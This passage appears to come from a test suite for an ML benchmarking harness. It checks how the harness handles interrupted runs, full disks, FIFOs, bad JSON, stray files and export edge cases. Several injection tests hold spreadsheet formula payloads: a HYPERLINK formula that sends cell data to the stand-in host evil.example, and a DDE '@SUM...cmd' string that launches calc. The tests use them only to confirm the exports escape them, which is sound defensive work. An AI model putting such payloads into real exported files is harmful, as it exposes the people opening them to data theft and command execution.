    assert any("tiny\\x01\\x1b[31m" in n for n in names), names


# -- a stopped night stopped in every command that measures, and judged or resumed honestly -----------------

@case("fault", "SIGTERM to harness nightly while a model is measuring: nothing keeps running, exit 143")
def _(root):
    _stopped_cleanly(root, signal.SIGTERM, 143, command="nightly")


@case("fault", "SIGTERM to harness calibrate while a model is measuring: nothing keeps running, exit 143")
def _(root):
    _stopped_cleanly(root, signal.SIGTERM, 143, command="calibrate")


def _stopped_mid_run(root: Path) -> tuple[Path, Path, str]:
    """A plan of one quick build stopped by Ctrl-C after two of its runs were stored: (plan, database, run id)."""
    plan, db = lab(root, runs=FAULT_RUNS), root / "h.db"
    proc = harness_popen("run", plan, "--db", db, "-q", cwd=root)
    _wait_for_runs(db, 2, proc)
    proc.send_signal(signal.SIGINT)
    _, err = proc.communicate(timeout=120)
    assert proc.returncode == 130, f"exit {proc.returncode}: {err[-1500:]}"
    (run_id,) = sqlite3.connect(db).execute("SELECT run_id FROM runs").fetchone()
    return plan, db, run_id


@case("fault", "nightly --compare-only of a run stopped mid-way: refused (N of M runs), judged once resumed")
def _(root):
    plan, db, run_id = _stopped_mid_run(root)
    stored = len(_runs_stored(db))
    early = cli("nightly", "--compare-only", run_id, "--db", str(db), "-o", "night", "--json", cwd=root)
    assert early.returncode == 2 and "Traceback" not in early.stderr, f"exit {early.returncode}: {early.stderr[-800:]}"
    assert f"incomplete run: {stored} of {FAULT_RUNS} runs stored" in early.stderr, early.stderr[-800:]
    assert f"--resume {run_id}" in early.stderr and not (root / "night").exists(), early.stderr[-800:]
    assert cli("run", str(plan), "--db", str(db), "--resume", run_id, "-q", cwd=root).returncode == 0
    judged = cli("nightly", "--compare-only", run_id, "--db", str(db), "-o", "night", "--json", cwd=root)
    assert judged.returncode == 0 and json.loads(judged.stdout)["passed"] is True, judged.stderr[-800:]


@case("fault", "a build rebuilt between Ctrl-C and --resume: its cell is finished with the bytes it began with")
def _(root):
    import onnx

    plan, db, run_id = _stopped_mid_run(root)
    began = sqlite3.connect(db).execute("SELECT cell_key FROM cells").fetchall()
    model = onnx.load(root / "builds" / "tiny.onnx")
    model.doc_string = "rebuilt"  # the same model exported again: other bytes
    onnx.save(model, root / "builds" / "tiny.onnx")
    again = cli("run", str(plan), "--db", str(db), "--resume", run_id, "-q", cwd=root)
    assert again.returncode == 0 and "changed since run" in again.stderr, again.stderr[-1500:]
    con = sqlite3.connect(db)
    assert con.execute("SELECT cell_key FROM cells").fetchall() == began, "the rebuilt file became a second cell"
    assert con.execute("SELECT status FROM runs").fetchone()[0] == "complete"
    assert len(_runs_stored(db)) == FAULT_RUNS
    report = cli("report", run_id, "--db", str(db), "-o", "rep", cwd=root)
    assert report.returncode == 0 and "incomplete" not in (root / "rep" / "index.html").read_text()


# -- inputs with no end: devices, FIFOs, files over the text cap ----------------------------------------------

@case("bad input", "wer: /dev/zero as the reference and a FIFO as the hypothesis (read forever, 9.6 GB RSS)")
def _(root):
    (root / "hyp.txt").write_text("a b\n")
    expect_user_error(cli("wer", "/dev/zero", "hyp.txt", cwd=root, timeout_s=QUICK_S), "/dev/zero")
    (root / "ref.txt").write_text("a b\n")
    os.mkfifo(root / "hyp.fifo")
    expect_user_error(cli("wer", "ref.txt", "hyp.fifo", cwd=root, timeout_s=QUICK_S), "hyp.fifo")


@case("bad input", "wer: a 2 GB sparse reference file (read whole, 4.2 GB RSS)")
def _(root):
    with open(root / "ref.txt", "wb") as fh:
        fh.truncate(2 << 30)
    (root / "hyp.txt").write_text("a b\n")
    expect_user_error(cli("wer", "ref.txt", "hyp.txt", cwd=root, timeout_s=QUICK_S), "ref.txt", "larger than")


# -- JSON read strictly everywhere; counts bounded ---------------------------------------------------------------

@case("bad input", "corpus: a manifest line with \"text\" twice (the second won)")
def _(root):
    wav(root / "corpus" / "a.wav")
    folder = corpus(root, extra_line='{"id": "u2", "audio": "a.wav", "text": "yes", "text": "no", "duration_s": 0.5}')
    _corpus_check(root, folder, "manifest.jsonl", "twice", line=2)


@case("bad input", "parse ios_result: JSON nested 100,000 deep (RecursionError)")
def _(root):
    (root / "result.json").write_text("[" * 100_000 + "]" * 100_000)
    expect_user_error(cli("parse", "ios_result", "result.json", cwd=root, timeout_s=QUICK_S), "result.json", "nested")


@case("bad input", "runs --limit 99999999999999999999999 (OverflowError)")
def _(root):
    db = stored_db(root)
    proc = cli("runs", "--db", str(db), "--limit", "99999999999999999999999", cwd=root, timeout_s=QUICK_S)
    expect_user_error(proc, "--limit")


# -- runner output with impossible numbers ---------------------------------------------------------------------

@case("bad input", "parse onnxruntime_perf_test: a negative P50 and a P95 of 1e309 (printed -1.2 and null)")
def _(root):
    log = (Path(__file__).resolve().parents[1] / "logs" / "onnxruntime_perf_test.txt").read_text()
    (root / "neg.txt").write_text(log.replace("P50 Latency: 0.0121 s", "P50 Latency: -0.0012 s"))
    expect_user_error(cli("parse", "onnxruntime_perf_test", "neg.txt", cwd=root, timeout_s=QUICK_S), "neg.txt", "p50_ms")
    (root / "inf.txt").write_text(log.replace("P95 Latency: 0.0142 s", "P95 Latency: 1e309 s"))
    expect_user_error(cli("parse", "onnxruntime_perf_test", "inf.txt", cwd=root, timeout_s=QUICK_S), "inf.txt", "p95_ms")


@case("bad input", "parse ios_result: latency_ms [NaN, 12.0, Infinity] (printed as nulls) and [] with status ok")
def _(root):
    shipped = (Path(__file__).resolve().parents[2] / "harness/runners/ios_contract/examples/result.latency.json").read_text()
    import re
    for name, latency in (("nan.json", "[NaN, 12.0, Infinity]"), ("empty.json", "[]")):
        (root / name).write_text(re.sub(r'"latency_ms":\s*\[[^\]]*\]', f'"latency_ms": {latency}', shipped))
        expect_user_error(cli("parse", "ios_result", name, cwd=root, timeout_s=QUICK_S), name)


# -- nightly --baseline: another, finished run -------------------------------------------------------------------

@case("bad input", "nightly --compare-only RUN --baseline RUN (PASSED against itself)")
def _(root):
    db = stored_db(root)
    run_id = sqlite3.connect(db).execute("SELECT run_id FROM runs").fetchone()[0]
    before = db.read_bytes()
    proc = cli("nightly", "--compare-only", run_id, "--baseline", run_id, "--db", str(db), "-o", "night", cwd=root,
               timeout_s=QUICK_S)
    expect_user_error(proc, "h.db", "itself")
    assert db.read_bytes() == before and not (root / "night").exists()


@case("bad input", "nightly --baseline an unfinished run (PASSED, every check 'new')")
def _(root):
    db = stored_db(root)
    con = sqlite3.connect(db)
    first = con.execute("SELECT run_id FROM runs").fetchone()[0]
    con.close()
    assert cli("run", str(lab(root)), "--db", str(db), "-q", cwd=root).returncode == 0
    con = sqlite3.connect(db)
    second = con.execute("SELECT run_id FROM runs WHERE run_id != ?", (first,)).fetchone()[0]
    with con:
        con.execute("UPDATE runs SET status = 'running' WHERE run_id = ?", (first,))  # as a run stopped mid-way
    con.close()
    proc = cli("nightly", "--compare-only", second, "--baseline", first, "--db", str(db), "-o", "night", cwd=root,
               timeout_s=QUICK_S)
    expect_user_error(proc, "h.db", "incomplete run", first)
    assert not (root / "night").exists()


@case("bad input", "nightly --compare-only of a run whose cells were lost (judged as if measured)")
def _(root):
    db = stored_db(root)
    con = sqlite3.connect(db)
    run_id, cell_id = con.execute("SELECT run_id, cell_id FROM cells ORDER BY cell_id").fetchone()
    with con:  # as a run whose phone went away: its cell and its runs stored lost, for --resume
        con.execute("UPDATE cells SET status='lost', reason='device unreachable: gone' WHERE cell_id=?", (cell_id,))
        con.execute("UPDATE cell_runs SET status='lost' WHERE cell_id=?", (cell_id,))
    con.close()
    before = db.read_bytes()
    proc = cli("nightly", "--compare-only", run_id, "--db", str(db), "-o", "night", cwd=root, timeout_s=QUICK_S)
    expect_user_error(proc, "incomplete run", "1 cell lost", f"--resume {run_id}")
    assert db.read_bytes() == before and not (root / "night").exists()


# -- scratch folders and inputs that block (processes and what they delete) -----------------------------------

@case("fault", "a user's folder named like a scratch folder (tmp/harness-forks-999999-mine/keep.txt) is kept")
def _(root):
    plan = lab(root)
    mine = root / "tmp" / "harness-forks-999999-mine"
    mine.mkdir(parents=True)
    (mine / "keep.txt").write_text("mine")
    proc = harness_process(["run", plan, "--db", "h.db", "-q"], root, 300, stdin=subprocess.DEVNULL,
                           env={**os.environ, "TMPDIR": str(root / "tmp")})
    assert proc.returncode == 0, proc.stderr[-1500:]
    assert (mine / "keep.txt").read_text() == "mine", "the sweep deleted a folder the harness did not create"
    left = [p.name for p in (root / "tmp").glob("harness-forks-*")]
    assert left == [mine.name], f"the run's own scratch folder was left: {left}"


@case("bad input", "run: a FIFO listed as a build (blocked 10 minutes, then printed --resume RUN_ID)")
def _(root):
    plan = lab(root)
    os.mkfifo(root / "builds" / "zero.onnx")
    plan.write_text(plan.read_text().replace("builds/tiny.onnx", "builds/zero.onnx"))
    proc = cli("run", str(plan), "--db", "h.db", "-q", cwd=root, timeout_s=QUICK_S)
    expect_user_error(proc, "zero.onnx", "not a regular file")
    assert "--resume" not in proc.stderr and not (root / "h.db").exists(), proc.stderr[-800:]


@case("bad input", "corpus import kaldi: an utterance id twice in wav.scp (reported as 'u2 is in text but not in wav.scp')")
def _(root):
    (root / "k").mkdir()
    wav(root / "k" / "a.wav")
    (root / "k" / "wav.scp").write_text("u1 a.wav\nu1 a.wav\n")
    (root / "k" / "text").write_text("u1 hello\n")
    expect_user_error(cli("corpus", "import", "kaldi", "k", cwd=root, timeout_s=QUICK_S), "wav.scp", "twice", line=2)
    assert not (root / "k" / "manifest.jsonl").exists()


@case("injection", "export: a model named '=HYPERLINK(...)' reaches the CSV as a formula")
def _(root):
    import csv

    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    plan = lab(root, model=formula, runs=1)
    assert cli("run", str(plan), "--db", "h.db", "-q", cwd=root).returncode == 0
    run_id = sqlite3.connect(root / "h.db").execute("SELECT run_id FROM runs").fetchone()[0]
    proc = cli("export", run_id, "--db", "h.db", "-o", "x.csv", cwd=root)
    assert proc.returncode == 0, proc.stderr[-800:]
    rows = list(csv.DictReader(open(root / "x.csv", newline="")))
    assert rows and all(r["model"] == "'" + formula for r in rows), rows[0]["model"]
    assert all(not v.startswith(("=", "+", "@")) for r in rows for v in r.values()), "a cell still starts a formula"
    assert float(rows[0]["latency_ms"]) >= 0, "numbers must stay numbers"


@case("injection", "operators: a 5000-character node name with a bidi override (U+202E) in the report and the CSV")
def _(root):
    import csv

    import onnx

    plan = lab(root, model="tiny", runs=1)
    model = onnx.load(root / "builds" / "tiny.onnx")
    name = "relu\u202e" + "x" * 5000
    model.graph.node[0].name = name  # node names are the exporter's (or anyone's) text
    onnx.save(model, root / "builds" / "tiny.onnx")
    assert cli("run", str(plan), "--db", "h.db", "-q", cwd=root).returncode == 0
    run_id = sqlite3.connect(root / "h.db").execute("SELECT run_id FROM runs").fetchone()[0]
    proc = cli("export", run_id, "--db", "h.db", "--what", "operators", "-o", "ops.csv", cwd=root)
    assert proc.returncode == 0 and "warning" not in proc.stdout + proc.stderr, proc.stdout + proc.stderr[-800:]
    rows = list(csv.DictReader(open(root / "ops.csv", newline="", encoding="utf-8")))
    assert rows and all(r["operator"] == "relu\\u202e" + "x" * 5000 for r in rows), rows[0]["operator"][:40]
    assert cli("report", run_id, "--db", "h.db", "-o", "rep", cwd=root).returncode == 0
    page = (root / "rep" / "index.html").read_text(encoding="utf-8")
    assert "\u202e" not in page and "relu\\u202e" + "x" * 69 + "…<" in page  # cut in the cell, whole in its title


@case("injection", "export --what cells: a model named '=HYPERLINK(...)' and a formula in the cell's failure reason")
def _(root):
    import csv

    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    plan = lab(root, model=formula, runs=1)
    assert cli("run", str(plan), "--db", "h.db", "-q", cwd=root).returncode == 0
    con = sqlite3.connect(root / "h.db")
    run_id = con.execute("SELECT run_id FROM runs").fetchone()[0]
    with con:
        con.execute("UPDATE cells SET reason = ?", ("@SUM(1+1)*cmd|' /C calc'!A0",))  # a runner's words are anyone's
    proc = cli("export", run_id, "--db", "h.db", "--what", "cells", "-o", "cells.csv", cwd=root)
    assert proc.returncode == 0, proc.stderr[-800:]
    rows = list(csv.DictReader(open(root / "cells.csv", newline="")))
    assert rows and all(r["model"] == "'" + formula and r["reason"].startswith("'@") for r in rows), rows[0]
    assert all(not v.startswith(("=", "+", "@")) for r in rows for v in r.values()), "a cell still starts a formula"
    assert float(rows[0]["p50_ms"]) > 0, "numbers must stay numbers"


@case("bad input", "export --format et-v3 with --what cells or transcripts (latency records only)")
def _(root):
    db = stored_db(root)
    run_id = sqlite3.connect(db).execute("SELECT run_id FROM runs").fetchone()[0]
    for what in ("cells", "transcripts"):
        proc = cli("export", run_id, "--db", "h.db", "--what", what, "--format", "et-v3", cwd=root)
        expect_user_error(proc, f"--what {what}", "csv or parquet")
    assert not any(p.suffix in (".json", ".csv") for p in root.iterdir()), "something was written"


@case("bad input", "export -o - as Parquet or with --json (a binary file or two outputs on stdout)")
def _(root):
    # Catches: -o - wrote a file literally named "-" whatever the format.
    db = stored_db(root)
    before = db.read_bytes()
    run_id = sqlite3.connect(db).execute("SELECT run_id FROM runs").fetchone()[0]
    for extra, said in ((["--format", "parquet"], "--format parquet"), (["--json"], "--json")):
        proc = cli("export", run_id, "--db", "h.db", "-o", "-", *extra, cwd=root)
        expect_user_error(proc, "-o -", said)
        assert proc.stdout == "", "something was written to stdout"
    assert not (root / "-").exists() and db.read_bytes() == before


@case("bad input", "export --format csv -o x.parquet (one format under another's suffix)")
def _(root):
    # Catches: --format and the suffix disagreeing silently (CSV text in a file named .parquet).
    db = stored_db(root)
    run_id = sqlite3.connect(db).execute("SELECT run_id FROM runs").fetchone()[0]
    for fmt, name in (("csv", "x.parquet"), ("parquet", "x.CSV"), ("et-v3", "x.csv")):
        proc = cli("export", run_id, "--db", "h.db", "--format", fmt, "-o", name, cwd=root)
        expect_user_error(proc, name, f"--format {fmt}")
        assert not (root / name).exists(), f"{name} was written"


@case("bad input", "export -o z.json / -o noext without --format (CSV under a name that says otherwise, or nothing)")
def _(root):
    # Catches: the suffix that names no table format silently taken for CSV.
    db = stored_db(root)
    run_id = sqlite3.connect(db).execute("SELECT run_id FROM runs").fetchone()[0]
    for name in ("z.json", "noext"):
        proc = cli("export", run_id, "--db", "h.db", "-o", name, cwd=root)
        expect_user_error(proc, name, "--format", ".parquet")
        assert not (root / name).exists(), f"{name} was written"


# -- outputs and the store never destroy what was there ------------------------------------------------------

@case("fault", "export, report and nightly -o onto a full disk (cut the previous file, blamed the database)")
def _(root):
    db = stored_db(root)
    run_id = sqlite3.connect(db).execute("SELECT run_id FROM runs").fetchone()[0]
    disk = root / "full"
    disk.mkdir()
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(disk)], capture_output=True)
    assert mounted.returncode == 0, f"cannot simulate a full disk here: {mounted.stderr.decode()[-300:]}"
    try:
        for name in ("x.csv", "rep/index.html", "n/index.html"):
            (disk / name).parent.mkdir(exist_ok=True)
            (disk / name).write_text(f"GOOD {name}\n")
        try:
            with open(disk / "filler", "ab", buffering=0) as fh:
                while True:
                    fh.write(b"\0" * 4096)
        except OSError:
            pass
        for argv, name in ((["export", run_id, "-o", str(disk / "x.csv")], "x.csv"),
                           (["report", run_id, "-o", str(disk / "rep")], "rep"),
                           (["nightly", "--compare-only", run_id, "-o", str(disk / "n")], "n")):
            proc = cli(*argv, "--db", str(db), cwd=root, timeout_s=QUICK_S * 6)
            expect_user_error(proc, str(disk / name), "No space left")
            assert "h.db" not in proc.stderr and "--resume" not in proc.stderr, proc.stderr[-800:]
        for name in ("x.csv", "rep/index.html", "n/index.html"):
            assert (disk / name).read_text() == f"GOOD {name}\n", f"{name} was cut"
    finally:
        subprocess.run(["umount", "-l", str(disk)], capture_output=True)


@case("bad input", "runs on a v4 database beside the user's own h.db.v4.bak (migrated it and replaced the file)")
def _(root):
    db = stored_db(root)
    con = sqlite3.connect(db)
    for table in ("operators", "profile_runs", "checks"):  # v6 added the first two, v5 only checks: a v4 is left
        con.execute(f"DROP TABLE {table}")
    con.execute("PRAGMA user_version=4")
    con.commit()
    con.close()
    (root / "h.db.v4.bak").write_text("MY OWN BACKUP\n")
    before = db.read_bytes()
    expect_user_error(cli("runs", "--db", "h.db", cwd=root, timeout_s=QUICK_S), "h.db", "harness migrate --db h.db")
    assert db.read_bytes() == before
    proc = cli("migrate", "--db", "h.db", cwd=root, timeout_s=QUICK_S)
    assert proc.returncode == 0 and "h.db.v4.1.bak" in proc.stderr, proc.stderr[-800:]
    assert (root / "h.db.v4.bak").read_text() == "MY OWN BACKUP\n", "the user's file was overwritten"


@case("bad input", "runs on a 0-byte file and on a database on a read-only mount (wrote a schema / refused to read)")
def _(root):
    (root / "empty.db").touch()
    expect_user_error(cli("runs", "--db", "empty.db", cwd=root, timeout_s=QUICK_S), "empty.db", "empty file")
    assert (root / "empty.db").stat().st_size == 0
    with _read_only_mount(root, stored_db(root)) as disk:
        for argv in (["runs"], ["export", "latest", "-o", str(root / "x.csv")], ["report", "latest", "-o", "rep"]):
            proc = cli(*argv, "--db", str(disk / "h.db"), cwd=root, timeout_s=QUICK_S * 6)
            assert proc.returncode == 0, proc.stderr[-800:]


@case("bad input", "site on a 0-byte file says what runs and report say of it (said 'no results database here')")
def _(root):
    (root / "empty.db").touch()
    expect_user_error(cli("site", "-o", "site", "--db", "empty.db", cwd=root, timeout_s=QUICK_S), "empty.db",
                      "not a harness results database (an empty file)")
    assert (root / "empty.db").stat().st_size == 0 and not (root / "site").exists()


@case("bad input", "run: a folder named like a cached build (64 zeros) beside the database (the prune deleted it)")
def _(root):
    plan = lab(root)
    mine = root / "h-builds" / ("0" * 64)
    mine.mkdir(parents=True)
    (mine / "notes.txt").write_text("mine")
    assert cli("run", str(plan), "--db", "h.db", "-q", cwd=root).returncode == 0
    assert (mine / "notes.txt").read_text() == "mine"


@case("bad input", "corpus import kaldi over an existing manifest.jsonl (replaced it silently)")
def _(root):
    (root / "k").mkdir()
    wav(root / "k" / "a.wav")
    (root / "k" / "wav.scp").write_text("u1 a.wav\n")
    (root / "k" / "text").write_text("u1 hello\n")
    (root / "k" / "manifest.jsonl").write_text("MINE\n")
    expect_user_error(cli("corpus", "import", "kaldi", "k", cwd=root, timeout_s=QUICK_S), "manifest.jsonl", "--force")
    assert (root / "k" / "manifest.jsonl").read_text() == "MINE\n"


@case("bad input", "run: a build file named caf\\xe9.onnx (traceback, a 'running' run with 0 cells each try)")
def _(root):
    plan = lab(root)
    os.rename(root / "builds" / "tiny.onnx", os.fsencode(root / "builds") + b"/caf\xe9.onnx")
    plan.write_text(plan.read_text().replace("builds/tiny.onnx", "builds/*.onnx"))
    bad_run(root, "not UTF-8", "rename")


@case("bad input", "export -o /proc/x and -o a dangling symlink (FileNotFoundError traceback)")
def _(root):
    db = stored_db(root)
    (root / "dang").symlink_to(root / "nowhere" / "x.csv")
    for out in ("/proc/x", "dang"):
        expect_user_error(cli("export", "latest", "--db", str(db), "-o", out, cwd=root, timeout_s=QUICK_S), out)


@case("fault", "run: an Android inventory whose adb_port has no adb server (AdbConnectionError traceback)")
def _(root):
    import socket

    plan = lab(root)
    with socket.socket() as probe:  # a port nothing listens on
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    (root / "devices.yaml").write_text(f"devices:\n  - {{id: phone, platform: android, serial: '*', "
                                       f"adb_port: {port}}}\n")
    proc = cli("run", str(plan), "--db", "h.db", "-q", cwd=root, timeout_s=QUICK_S)
    expect_user_error(proc, f"no adb server on 127.0.0.1:{port}", f"adb -P {port} start-server")


@case("fault", "run with TMPDIR on a full disk (the measuring child hung until timeout_s, stored as 'timeout')")
def _(root):
    plan = lab(root, plan_extra="timeout_s: 120\n", runs=1)
    full = root / "full"
    full.mkdir()
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=256k,nr_inodes=3", "tmpfs", str(full)],
                             capture_output=True)
    assert mounted.returncode == 0, f"cannot simulate a full disk here: {mounted.stderr.decode()[-300:]}"
    try:
        proc = harness_process(["run", plan, "--db", "h.db"], root, 100, stdin=subprocess.DEVNULL,
                               env={**os.environ, "TMPDIR": str(full)})
    finally:
        subprocess.run(["umount", str(full)], check=True)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr, f"exit {proc.returncode}: {proc.stderr[-1500:]}"
    said = " ".join(proc.stderr.split())
    assert "could not create the run's output file" in said and "free space there" in said, said[-800:]
    assert "timeout" not in said, said[-800:]


@case("bad input", "run beside a user's file named like a run lock (h.db.RUNID.lock: the lock sweep deleted it)")
def _(root):
    plan = lab(root)
    db = stored_db(root)
    con = sqlite3.connect(db)
    (run_id,) = con.execute("SELECT run_id FROM runs").fetchone()
    con.close()
    other, own = root / "h.db.20261207-010000-abcd.lock", root / f"h.db.{run_id}.lock"
    for mine in (other, own):
        mine.write_text("MINE\n")
    proc = cli("run", str(plan), "--db", "h.db", "-q", cwd=root)
    assert proc.returncode == 0, proc.stderr[-1500:]
    before = db.read_bytes()
    expect_user_error(cli("run", str(plan), "--db", "h.db", "--resume", run_id, "-q", cwd=root), own.name,
                      "did not make")
    assert db.read_bytes() == before
    assert other.read_text() == own.read_text() == "MINE\n", "a file the harness did not make was deleted"


@case("bad input", "corpus import kaldi where manifest.jsonl is a dangling link (made its target elsewhere)")
def _(root):
    (root / "k").mkdir()
    (root / "elsewhere").mkdir()
    wav(root / "k" / "a.wav")
    (root / "k" / "wav.scp").write_text("u1 a.wav\n")
    (root / "k" / "text").write_text("u1 hello\n")
    (root / "k" / "manifest.jsonl").symlink_to(root / "elsewhere" / "made.jsonl")
    for force in ([], ["--force"]):
        expect_user_error(cli("corpus", "import", "kaldi", "k", *force, cwd=root, timeout_s=QUICK_S),
                          "manifest.jsonl", "remove the link")
        assert not (root / "elsewhere" / "made.jsonl").exists(), "the import wrote outside the corpus folder"


@case("bad input", "--db a folder or a FIFO (read as 'no database here', a permission or a disk fault)")
def _(root):
    plan = lab(root)
    (root / "results").mkdir()
    os.mkfifo(root / "pipe")
    for db, kind in (("results", "a folder"), ("pipe", "a named pipe")):
        for argv in (["runs"], ["report", "latest", "-o", "rep"], ["export", "latest", "-o", "x.csv"],
                     ["run", str(plan), "-q"]):
            proc = cli(*argv, "--db", db, cwd=root, timeout_s=QUICK_S * 6)
            expect_user_error(proc, f"{db}: this is {kind}", "not a SQLite database file")
    left = sorted(p.name for p in root.iterdir())
    assert left == ["builds", "devices.yaml", "pipe", "plan.yaml", "results"], f"something was written: {left}"


@case("bad input", "plan: timeout_s: 1e300 (the fix suggested 1.0e+300, out of range as well)")
def _(root):
    plan = lab(root, "timeout_s: 1e300\n")
    db = stored_db(root)
    proc = cli("run", str(plan), "--db", str(db), "-q", cwd=root)
    expect_user_error(proc, "plan.yaml", "timeout_s", "less than or equal to 604800", line=8)
    assert "e+300" not in proc.stderr, proc.stderr[-800:]


@case("bad input", "run: a folder given as the plan (the fix said 'copy a stream to a file first')")
def _(root):
    lab(root)
    expect_user_error(cli("run", ".", "--db", "h.db", "-q", cwd=root, timeout_s=QUICK_S), "is a folder, not a plan file",
                      "the YAML files in this folder: devices.yaml, plan.yaml")
    assert not (root / "h.db").exists()


@case("fault", "site, report, nightly, export, compare -o into new folders on a full disk (left them behind, empty)")
def _(root):
    db = stored_db(root)
    run_id = sqlite3.connect(db).execute("SELECT run_id FROM runs").fetchone()[0]
    disk = root / "full"
    disk.mkdir()
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(disk)], capture_output=True)
    assert mounted.returncode == 0, f"cannot simulate a full disk here: {mounted.stderr.decode()[-300:]}"
    try:
        (disk / "old").mkdir()
        (disk / "old" / "index.html").write_text("GOOD\n")
        try:
            with open(disk / "filler", "ab", buffering=0) as fh:
                while True:
                    fh.write(b"\0" * 4096)
        except OSError:
            pass
        for argv in (["site", "-o", "new/site"], ["site", "-o", "old"], ["report", run_id, "-o", "new/rep"],
                     ["nightly", "--compare-only", run_id, "-o", "new/n"], ["export", run_id, "-o", "new/x/x.csv"],
                     ["compare", run_id, run_id, "-o", "new/c/c.md"]):
            proc = cli(*argv[:-1], str(disk / argv[-1]), "--db", str(db), cwd=root, timeout_s=QUICK_S * 6)
            expect_user_error(proc, str(disk), "No space left")
        assert sorted(p.name for p in disk.iterdir()) == ["filler", "old"], "a folder an output made was left"
        assert [p.name for p in (disk / "old").iterdir()] == ["index.html"]
        assert (disk / "old" / "index.html").read_text() == "GOOD\n"
    finally:
        subprocess.run(["umount", "-l", str(disk)], capture_output=True)


@case("fault", "devices: an Android entry whose adb_port has no adb server ('1 library warning' under the message)")
def _(root):
    import socket

    with socket.socket() as probe:  # a port nothing listens on
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    (root / "devices.yaml").write_text(f"devices:\n  - {{id: phone, platform: android, serial: '*', "
                                       f"adb_port: {port}}}\n")
    proc = harness_process(["devices", "--json"], root, QUICK_S * 6, stdin=subprocess.DEVNULL,
                           env={**os.environ, "HARNESS_LOG": str(root / "harness.log")})
    assert proc.returncode == 1 and f"no adb server on 127.0.0.1:{port}" in proc.stdout, proc.stdout[-800:]
    assert proc.stderr == "", f"more than the harness's own message: {proc.stderr[-800:]}"


@case("fault", "an executor_runner built without the event tracer (no operator profile on the phone)")
def _(root):
    # A release build accepts --etdump_path and writes nothing: the cells keep their measurement, have no operator
    # table, and their log says how to build a binary that profiles (never a failed cell, never a traceback).
    run_id, rows, _ = _phone_night(root, lambda lab_: None)
    assert len(rows) == 2 and all(status == "ok" for status, *_ in rows), rows
    con = sqlite3.connect(root / "h.db")
    logs = [log for (log,) in con.execute("SELECT log FROM cells WHERE run_id=?", (run_id,))]
    profiled = con.execute("SELECT COUNT(*) FROM profile_runs").fetchone()[0]
    con.close()
    assert profiled == 0 and all("wrote no ETDump: build it with the event tracer" in log for log in logs), logs
